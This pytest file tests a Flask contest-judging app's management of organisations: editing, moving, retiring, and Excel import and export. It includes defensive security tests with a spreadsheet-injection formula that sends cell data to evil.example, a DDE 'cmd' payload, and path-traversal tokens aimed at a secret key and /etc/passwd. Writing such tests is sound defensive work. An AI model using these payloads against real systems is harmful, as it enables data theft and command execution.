"""Organisations: edit, move, retire, import and export (issue 16). Refusals name the problem in the
user's language and change nothing."""

from __future__ import annotations

import html
import io
import re
from pathlib import Path

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient

from judging.extensions import db
from judging.media import generate_test_image
from judging.models import AuditEvent, Organization, OrganizationKind, Role, User
from judging.services import (
    NotFound,
    ServiceError,
    accounts,
    blind_check,
    contests,
    entries,
    entry_files,
    nomination,
    organizations,
)
from judging.services.blind_view import organization_names
from judging.storage import LocalStorage
from tests.conftest import (
    create_user,
    csrf_token,
    log_in,
    open_contest_for_entries,
    organization_named,
    submitted_video_entry,
)
from tests.scenarios import organizations_workbook, twenty_organizations

LIST = "/organizer/organizations"


def _id(name: str) -> int:
    return organization_named(name).id


def _audit_count() -> int:
    return db.session.scalar(db.select(db.func.count(AuditEvent.id))) or 0


def _snapshot() -> list[tuple[object, ...]]:
    return [
        (o.id, o.name, o.kind, o.parent_id, o.short_name, o.english_name, tuple(o.aliases or ()), o.retired_at)
        for o in db.session.scalars(db.select(Organization).order_by(Organization.id))
    ]


def _flashes(client: FlaskClient, url: str) -> str:
    return client.get(url).get_data(as_text=True)


def alerts(page: str) -> list[str]:
    """The messages a page shows (flashed alerts), as text."""
    return [html.unescape(text) for text in re.findall(r'role="alert">([^<]*)</div>', page)]


def _company(name: str, parent: str | None = None) -> Organization:
    org = organizations.create_organization(
        db.session,
        None,
        name=name,
        kind=OrganizationKind.COMPANY,
        parent=organization_named(parent) if parent else None,
    )
    db.session.commit()
    return org


# --- edit ----------------------------------------------------------------------------------------


def test_edit_saves_names_and_a_new_alias_is_masked_from_blind_judges(
    app: Flask, client_for, short_video: Path
) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    with app.app_context():
        pudong = _id("浦东新区")
        entry = submitted_video_entry(app, "entrant-a", short_video, title="陆家嘴金融城的反诈故事")
        code = entry.code
        contest = entry.contest
        assert blind_check.blind_check(db.session, contest) == []  # not a known name yet
    url = f"{LIST}/{pudong}"
    token = csrf_token(client, url)
    response = client.post(
        f"{url}/edit",
        data={
            "name": "浦东新区",
            "kind": "district",
            "short_name": "浦东",
            "english_name": "Pudong New Area",
            "aliases": "Pudong\n陆家嘴金融城",
            "csrf_token": token,
        },
    )
    assert response.status_code == 302
    assert "浦东新区 已保存。" in _flashes(client, url)
    with app.app_context():
        org = organization_named("浦东新区")
        assert (org.short_name, org.english_name, org.aliases) == (
            "浦东",
            "Pudong New Area",
            ["Pudong", "陆家嘴金融城"],
        )
        assert {"Pudong New Area", "陆家嘴金融城"} <= set(organization_names(db.session))
        findings = blind_check.blind_check(db.session, contests.get_contest(db.session, "micro-video"))
        assert [(f.entry.code, f.name) for f in findings] == [(code, "陆家嘴金融城")]
        event = db.session.scalars(db.select(AuditEvent).order_by(AuditEvent.seq.desc())).first()
        assert event.action == "organization.edit"
        assert event.data["after"]["english_name"] == "Pudong New Area"


def test_edit_refuses_a_taken_name_and_a_one_letter_alias_changing_nothing(app: Flask, client_for) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    with app.app_context():
        pudong = _id("浦东新区")
        before = _snapshot()
    url = f"{LIST}/{pudong}"
    token = csrf_token(client, url)
    taken = client.post(f"{url}/edit", data={"name": "黄浦区", "kind": "district", "csrf_token": token})
    assert taken.status_code == 400 and "已存在名为“黄浦区”的单位。" in taken.get_data(as_text=True)
    short = client.post(
        f"{url}/edit", data={"name": "浦东新区", "kind": "district", "aliases": "P", "csrf_token": token}
    )
    assert "“P”太短，无法对盲评评委遮盖：名称至少需要 2 个字符。" in short.get_data(as_text=True)
    grassroots = client.post(f"{url}/edit", data={"name": "浦东新区", "kind": "grassroots", "csrf_token": token})
    assert "基层单位须隶属于某个区、行业主管部门或企业。" in grassroots.get_data(as_text=True)
    with app.app_context():
        assert _snapshot() == before


# --- move ----------------------------------------------------------------------------------------


def test_move_into_its_own_unit_is_refused_with_the_circle_named_and_nothing_changes(app: Flask, client_for) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    with app.app_context():
        _company("上海测试集团")
        _company("上海测试子公司", parent="上海测试集团")
        _company("上海测试孙公司", parent="上海测试子公司")
        group, grandchild = _id("上海测试集团"), _id("上海测试孙公司")
        before, events = _snapshot(), _audit_count()
    url = f"{LIST}/{group}"
    token = csrf_token(client, url)
    response = client.post(f"{url}/move", data={"parent_id": grandchild, "csrf_token": token})
    assert response.status_code == 302
    assert (
        "上海测试集团 不能调到 上海测试孙公司 之下：上海测试孙公司 本身隶属于 上海测试集团"
        "（上海测试集团 → 上海测试子公司 → 上海测试孙公司），否则隶属关系会形成循环。"
    ) in _flashes(client, url)
    with app.app_context():
        assert _snapshot() == before and _audit_count() == events
        with pytest.raises(ServiceError, match="不能隶属于自身"):
            organizations.move_organization(
                db.session,
                db.session.get(User, 1),
                organization_named("上海测试集团"),
                organization_named("上海测试集团"),
            )
        db.session.rollback()


def test_a_district_cannot_move_under_a_unit_and_a_unit_moves_with_its_audit(app: Flask, client_for) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    with app.app_context():
        _company("上海测试集团")
        _company("上海测试子公司", parent="上海测试集团")
        pudong, company, group, xuhui = _id("浦东新区"), _id("上海测试子公司"), _id("上海测试集团"), _id("徐汇区")
        before = _snapshot()
    token = csrf_token(client, f"{LIST}/{pudong}")
    client.post(f"{LIST}/{pudong}/move", data={"parent_id": group, "csrf_token": token})
    assert "组织者、区和行业主管部门位于最上层，不隶属于其他单位。" in _flashes(client, f"{LIST}/{pudong}")
    with app.app_context():
        assert _snapshot() == before
    client.post(f"{LIST}/{company}/move", data={"parent_id": xuhui, "csrf_token": token})
    assert "上海测试子公司 现隶属于 徐汇区。" in _flashes(client, f"{LIST}/{company}")
    with app.app_context():
        assert organization_named("上海测试子公司").parent.name == "徐汇区"
        event = db.session.scalars(db.select(AuditEvent).order_by(AuditEvent.seq.desc())).first()
        assert (event.action, event.data["before"], event.data["after"]) == (
            "organization.move",
            "上海测试集团",
            "徐汇区",
        )


def _unit_case(app: Flask, tmp_path: Path, unit: str, district: str) -> tuple[User, str]:
    """A grassroots unit under ``district`` with a submitted case in the exemplary-case selection."""
    image = tmp_path / "case.png"
    generate_test_image(image)
    contest = open_contest_for_entries("exemplary-cases")
    organizations.create_organization(
        db.session, None, name=unit, kind=OrganizationKind.GRASSROOTS, parent=organization_named(district)
    )
    db.session.commit()
    account = create_user("unit", Role.ENTRANT, unit)
    entry = entries.create_draft(
        db.session,
        account,
        contest,
        title="社区反诈课堂",
        category="case",
        fields={"unit": unit, "period": "2026-05-01"},
    )
    with image.open("rb") as stream:
        entry_files.attach_file(
            db.session, account, entry, LocalStorage(app.config["UPLOAD_FOLDER"]), stream, "案例.png"
        )
    entries.submit_entry(db.session, account, entry, list(contests.current_rubric(contest).entry.declarations))
    db.session.commit()
    return account, entry.code


def test_a_unit_whose_case_awaits_or_holds_a_nomination_cannot_move(
    app: Flask, users: dict[str, int], client_for, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    with app.app_context():
        _account, code = _unit_case(app, tmp_path, "浦东新区测试街道", "浦东新区")
        unit, xuhui = _id("浦东新区测试街道"), _id("徐汇区")
        before = _snapshot()
    client = client_for("organizer")
    token = csrf_token(client, f"{LIST}/{unit}")
    page = _flashes(client, f"{LIST}/{unit}")
    waiting = (
        f"浦东新区测试街道 现在不能调整：{code}（网络安全宣传先进典型案例推选）正等待或已获得上级单位的推荐。"
        "请先撤回推荐或作品，或在结果发布后再调整。"
    )
    assert waiting in page  # said before anyone tries
    client.post(f"{LIST}/{unit}/move", data={"parent_id": xuhui, "csrf_token": token})
    assert waiting in _flashes(client, f"{LIST}/{unit}")
    with app.app_context():
        assert _snapshot() == before
        entry = db.session.scalar(db.select(entries.Entry).where(entries.Entry.code == code))
        nomination.nominate_entry(db.session, db.session.get(User, users["entrant-a"]), entry)
        db.session.commit()
        # the district that nominated it cannot be retired either, while the case is in play
        check = organizations.retirement_blockers(db.session, organization_named("浦东新区"))
        assert check.units == ["浦东新区测试街道"] and check.entries == [f"{code}（网络安全宣传先进典型案例推选）"]
    client.post(f"{LIST}/{unit}/move", data={"parent_id": xuhui, "csrf_token": token})
    assert waiting in _flashes(client, f"{LIST}/{unit}")
    with app.app_context():
        assert organization_named("浦东新区测试街道").parent.name == "浦东新区"


# --- retire --------------------------------------------------------------------------------------


def test_a_retired_organisation_is_hidden_from_pickers_and_takes_no_account(app: Flask, client_for) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    with app.app_context():
        jinshan = _id("金山区")
    assert f'<option value="{jinshan}">金山区</option>' in client.get("/organizer/users").get_data(as_text=True)
    token = csrf_token(client, f"{LIST}/{jinshan}")
    client.post(f"{LIST}/{jinshan}/retire", data={"csrf_token": token})
    assert "金山区 已停用；停用了 0 个账号。" in _flashes(client, f"{LIST}/{jinshan}")
    users_page = client.get("/organizer/users").get_data(as_text=True)
    assert f'value="{jinshan}"' not in users_page
    assert f'value="{jinshan}"' not in client.get(LIST).get_data(as_text=True)  # not offered as a parent either
    refused = client.post(
        "/organizer/users",
        data={
            "username": "jinshan",
            "display_name": "金山",
            "role": "entrant",
            "organization_id": jinshan,
            "csrf_token": token,
        },
    )
    assert refused.status_code == 400
    with app.app_context():
        assert db.session.scalar(db.select(User).where(User.username == "jinshan")) is None
        org = organization_named("金山区")
        assert org.retired
        try:
            accounts.create_account(
                db.session, None, username="jinshan", display_name="金山", role=Role.ENTRANT, organization=org
            )
            raise AssertionError("a retired organisation got an account")
        except ServiceError as refusal:
            assert refusal.message == "金山区 已停用，不能再新增账号。"
        db.session.rollback()
    page = client.get(LIST).get_data(as_text=True)
    assert 'data-organization="金山区" data-depth="0" class="org-retired" data-retired' in page  # still listed
    client.post(f"{LIST}/{jinshan}/unretire", data={"csrf_token": token})
    assert "金山区 已恢复使用。" in _flashes(client, f"{LIST}/{jinshan}")
    with app.app_context():
        assert not organization_named("金山区").retired


def test_retiring_with_active_accounts_needs_their_deactivation(app: Flask, client_for) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    with app.app_context():
        huangpu = _id("黄浦区")
        before = _snapshot()
    url = f"{LIST}/{huangpu}"
    token = csrf_token(client, url)
    client.post(f"{url}/retire", data={"csrf_token": token})
    assert "黄浦区 仍有在用账号：entrant-b。请在停用单位时一并停用这些账号，或先行停用。" in _flashes(client, url)
    with app.app_context():
        assert _snapshot() == before
        assert db.session.scalar(db.select(User).where(User.username == "entrant-b")).active
    client.post(f"{url}/retire", data={"deactivate_accounts": "y", "csrf_token": token})
    assert "黄浦区 已停用；停用了 1 个账号。" in _flashes(client, url)
    with app.app_context():
        entrant = db.session.scalar(db.select(User).where(User.username == "entrant-b"))
        assert not entrant.active and organization_named("黄浦区").retired
        organizer = db.session.scalar(db.select(User).where(User.username == "organizer"))
        try:
            accounts.set_active(db.session, organizer, entrant, active=True)
            raise AssertionError("an account of a retired organisation was reactivated")
        except ServiceError as refusal:
            assert refusal.message == "黄浦区 已停用：请先恢复该单位，再启用其账号。"
        db.session.rollback()
    assert log_in(app.test_client(), "entrant-b").status_code == 200  # the login form again: refused


def test_retiring_with_open_entries_is_refused_and_history_keeps_the_name(
    app: Flask, client_for, short_video: Path
) -> None:  # type: ignore[no-untyped-def]
    with app.app_context():
        entry = submitted_video_entry(app, "entrant-a", short_video)
        code, pudong = entry.code, _id("浦东新区")
    client = client_for("organizer")
    url = f"{LIST}/{pudong}"
    token = csrf_token(client, url)
    client.post(f"{url}/retire", data={"deactivate_accounts": "y", "csrf_token": token})
    assert (
        f"浦东新区 在尚未结束的评选中仍有作品：{code}（网络安全微视频评选）。停用后这些作品将无人处理；"
        "请在结果发布后，或作品撤回后再停用。"
    ) in _flashes(client, url)
    with app.app_context():
        assert not organization_named("浦东新区").retired
        assert db.session.scalar(db.select(User).where(User.username == "entrant-a")).active


def test_a_retired_entrant_organisation_cannot_start_an_entry(app: Flask, users: dict[str, int]) -> None:
    with app.app_context():
        contest = open_contest_for_entries("micro-video")
        entrant = db.session.get(User, users["entrant-a"])
        organization_named("浦东新区").retired_at = organizations.utcnow()
        try:
            entries.create_draft(db.session, entrant, contest, title="作品", fields={"theme": "主题"})
            raise AssertionError("a retired organisation started an entry")
        except ServiceError as refusal:
            assert refusal.message == "您的单位已停用，不能新建作品。"
        db.session.rollback()


def test_an_unknown_organisation_is_not_found(app: Flask, client_for) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    assert client.get(f"{LIST}/999999").status_code == 404
    assert client_for("judge").get(f"{LIST}/1").status_code in (302, 403, 404)
    with app.app_context():
        try:
            organizations.get_organization(db.session, 999999)
            raise AssertionError
        except NotFound:
            pass


# --- import and export ---------------------------------------------------------------------------


def _upload(client: FlaskClient, path: Path, name: str | None = None):  # type: ignore[no-untyped-def]
    token = csrf_token(client, LIST)
    with path.open("rb") as stream:
        return client.post(
            f"{LIST}/import/preview",
            data={"file": (stream, name or path.name), "csrf_token": token},
            content_type="multipart/form-data",
        )


def _confirm(client: FlaskClient, preview_page: str):  # type: ignore[no-untyped-def]
    token = preview_page.split('name="token" type="hidden" value="')[1].split('"')[0]
    csrf = preview_page.split('name="csrf_token" type="hidden" value="')[1].split('"')[0]
    return client.post(f"{LIST}/import/confirm", data={"token": token, "csrf_token": csrf})


def test_twenty_organisations_are_previewed_then_written_and_a_reimport_changes_nothing(
    app: Flask, client_for, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    path = organizations_workbook(tmp_path / "滨江.xlsx", twenty_organizations())
    with app.app_context():
        before = _snapshot()
    preview = _upload(client, path)
    page = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert "滨江.xlsx：将新增 20 个单位，更新 0 个，0 个不变。" in page
    assert page.count('data-action="create"') == 20
    with app.app_context():
        assert _snapshot() == before  # a preview writes nothing
    response = _confirm(client, page)
    assert response.status_code == 302
    listing = client.get(LIST).get_data(as_text=True)
    assert "已新增 20 个单位，更新 0 个，0 个不变。" in listing
    with app.app_context():
        district = organization_named("滨江区")
        assert district.kind is OrganizationKind.DISTRICT
        assert (district.short_name, district.english_name, district.aliases) == (
            "滨江",
            "Binjiang",
            ["滨江新区", "Binjiang District"],
        )
        assert sorted(unit.name for unit in district.children) == sorted(f"滨江区第{n}街道" for n in range(1, 20))
        assert organization_named("滨江区第7街道").english_name == "Binjiang Street 7"
        event = db.session.scalars(db.select(AuditEvent).order_by(AuditEvent.seq.desc())).first()
        assert (event.action, event.data["created"], event.data["updated"]) == ("organization.import", 20, 0)
        after = _snapshot()
    again = _upload(client, path).get_data(as_text=True)
    assert "滨江.xlsx：将新增 0 个单位，更新 0 个，20 个不变。" in again
    assert 'type="submit" disabled' in again
    _confirm(client, again)
    with app.app_context():
        assert _snapshot() == after


def test_a_bad_row_refuses_the_whole_import_naming_row_and_column(app: Flask, client_for, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    rows = twenty_organizations()
    rows[3] = ("滨江区第4街道", "街道办", "滨江区")  # spreadsheet row 5
    rows[12] = ("滨江区第12街道", "基层单位", "不存在区")  # row 14
    path = organizations_workbook(tmp_path / "orgs.xlsx", rows)
    with app.app_context():
        before, events = _snapshot(), _audit_count()
    response = _upload(client, path)
    assert response.status_code == 302
    page = client.get(LIST).get_data(as_text=True)
    assert "orgs.xlsx，第 5 行，“类型”列：未知类型“街道办”（可用：区、行业主管部门、企业、基层单位）。" in page
    assert "orgs.xlsx，第 14 行，“上级单位”列：本文件和现有单位中都没有名为“不存在区”的单位。" in page
    assert "未导入任何数据。" in page
    with app.app_context():
        assert _snapshot() == before and _audit_count() == events


def test_a_circle_or_a_district_under_a_unit_in_the_file_is_refused(app: Flask, client_for, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    path = organizations_workbook(
        tmp_path / "circle.xlsx",
        [
            ("甲公司", "企业", "乙公司"),  # Chinese labels, as a person types them
            ("乙公司", "企业", "甲公司"),
            ("浦东新区", "区", "甲公司", "浦东", "", "浦东; Pudong"),
        ],
    )
    with app.app_context():
        before = _snapshot()
    _upload(client, path)
    page = client.get(LIST).get_data(as_text=True)
    assert alerts(page) == [
        "circle.xlsx，第 2 行，“上级单位”列：甲公司 不能调到 乙公司 之下：乙公司 本身隶属于 甲公司（甲公司 → 乙公司），"
        "否则隶属关系会形成循环。",
        "circle.xlsx，第 3 行，“上级单位”列：乙公司 不能调到 甲公司 之下：甲公司 本身隶属于 乙公司（乙公司 → 甲公司），"
        "否则隶属关系会形成循环。",
        "circle.xlsx，第 4 行，“上级单位”列：组织者、区和行业主管部门位于最上层，不隶属于其他单位。",
        "未导入任何数据。",
    ]
    with app.app_context():
        assert _snapshot() == before


def test_the_export_reimports_as_no_change_in_either_language(app: Flask, client_for, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    with app.app_context():
        _company("上海测试集团")
        _company("上海测试子公司", parent="上海测试集团")
        organization_named("金山区").retired_at = organizations.utcnow()
        db.session.commit()
        total = len(_snapshot())
    for language in ("zh_CN", "en"):
        assert client.get(f"/lang/{language}").status_code == 302
        exported = client.get(f"{LIST}.xlsx")
        assert exported.status_code == 200
        path = tmp_path / f"export-{language}.xlsx"
        path.write_bytes(exported.data)
        sheet = openpyxl.load_workbook(path).active
        assert sheet.max_row == total + 1
        assert sheet["A1"].value == {"zh_CN": "名称", "en": "Name"}[language]
        assert sheet["B3"].value == {"zh_CN": "区", "en": "District"}[language]
        page = _upload(client, path).get_data(as_text=True)
        assert page.count('data-action="unchanged"') == total, language
        assert page.count('data-action="create"') == page.count('data-action="update"') == 0


def test_the_export_is_injection_safe(app: Flask, client_for) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    with app.app_context():
        org = organizations.create_organization(
            db.session,
            None,
            name=formula,
            kind=OrganizationKind.COMPANY,
            parent=None,
            aliases=["+cmd|' /C calc'!A0", "@SUM(1)"],
        )
        db.session.commit()
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"{LIST}.xlsx").data))
    cells = {cell.value: cell for row in book.active.iter_rows() for cell in row if cell.value}
    assert cells[formula].data_type == "s" and cells[formula].quotePrefix
    aliases = cells["+cmd|' /C calc'!A0; @SUM(1)"]
    assert aliases.data_type == "s" and aliases.quotePrefix
    del org


def test_the_template_has_the_header_and_a_guide(app: Flask, client_for, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"{LIST}/template.xlsx").data))
    assert [c.value for c in book.worksheets[0][1]] == [
        "名称",
        "类型",
        "上级单位",
        "简称",
        "英文名称",
        "其他名称",
        "已停用",
    ]
    assert book.worksheets[0].max_row == 1
    assert book.worksheets[1].title == "填写说明"


def test_an_import_cannot_retire_past_the_rules_nor_take_the_organiser_kind(
    app: Flask, client_for, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    path = organizations_workbook(
        tmp_path / "sneaky.xlsx",
        [("黄浦区", "区", "", "", "Huangpu", "", "是"), ("影子组织者", "组织方", "")],
    )
    with app.app_context():
        before = _snapshot()
    _upload(client, path)
    assert alerts(client.get(LIST).get_data(as_text=True)) == [
        "sneaky.xlsx，第 3 行，“类型”列：组织者单位只有一个；新增的单位用于参赛。",
        "sneaky.xlsx，第 2 行，“已停用”列：黄浦区 仍有在用账号：entrant-b。"
        "请在停用单位时一并停用这些账号，或先行停用。",
        "未导入任何数据。",
    ]
    with app.app_context():
        assert _snapshot() == before


def test_a_confirm_token_names_only_a_stored_preview_and_only_organisers_import(
    app: Flask, client_for, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    client = client_for("organizer")
    csrf = csrf_token(client, LIST)
    # Only a token the deployment signed names a preview (test_table_import_hosts.py: expiry, other hosts).
    for token in ("../../instance/secret_key|x", "/etc/passwd|x", ".hidden|x", "", "0123abcd.xlsx|x.xlsx"):
        assert client.post(f"{LIST}/import/confirm", data={"token": token, "csrf_token": csrf}).status_code == 400
    entrant = client_for("entrant-a")
    path = organizations_workbook(tmp_path / "orgs.xlsx", twenty_organizations())
    with path.open("rb") as stream:
        response = entrant.post(
            f"{LIST}/import/preview",
            data={"file": (stream, "orgs.xlsx"), "csrf_token": csrf_token(entrant, "/")},
            content_type="multipart/form-data",
        )
    assert response.status_code in (302, 403, 404)
    assert entrant.get(f"{LIST}.xlsx").status_code in (302, 403, 404)
    with app.app_context():
        assert organizations.find_organization(db.session, "滨江区") is None
